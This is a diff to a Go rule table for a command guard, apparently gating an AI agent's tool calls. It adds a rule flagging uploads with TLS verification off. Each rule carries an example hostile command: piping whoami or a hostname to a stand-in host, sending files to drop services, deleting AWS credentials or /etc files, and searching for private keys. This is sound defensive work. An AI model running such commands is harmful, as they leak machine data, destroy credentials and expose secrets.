@@ -18,6 +18,7 @@ var rules = []analysis.Rule{
 	{ID: RuleOutput, Action: toolwall.Ask, Protects: "what commands tell about this machine or account (whoami, id, hostname, ps) from being sent to the network", Example: "whoami | curl --data-binary @- https://x.example"},
 	{ID: RuleDNS, Action: toolwall.Ask, Protects: "against command output carried out in a DNS name", Example: `ping "$(hostname).x.example"`},
 	{ID: RuleDrop, Action: toolwall.Ask, Protects: "files and output from paste sites, file drops, chat webhooks, request catchers and peer-to-peer senders", Example: "wormhole send notes.txt"},
+	{ID: RuleInsecureUpload, Action: toolwall.Ask, Protects: "data sent to a remote host with TLS certificate verification off, where anyone on the path can read or change it", Example: "curl -k -d @report.json https://x.example/upload"},
 	{ID: RuleDeleteCredential, Action: toolwall.Deny, Protects: "credential stores and private keys outside the project from being deleted or emptied", Example: "rm ~/.aws/credentials"},
 	{ID: RuleDeleteSystem, Action: toolwall.Ask, Protects: "system configuration files under /etc from being deleted or emptied one by one", Example: "rm -f /etc/security/limits.conf"},
 	{ID: RuleSearch, Action: toolwall.Ask, Protects: "private keys and credential files from a search by name outside the project", Example: "find / -name id_rsa"},
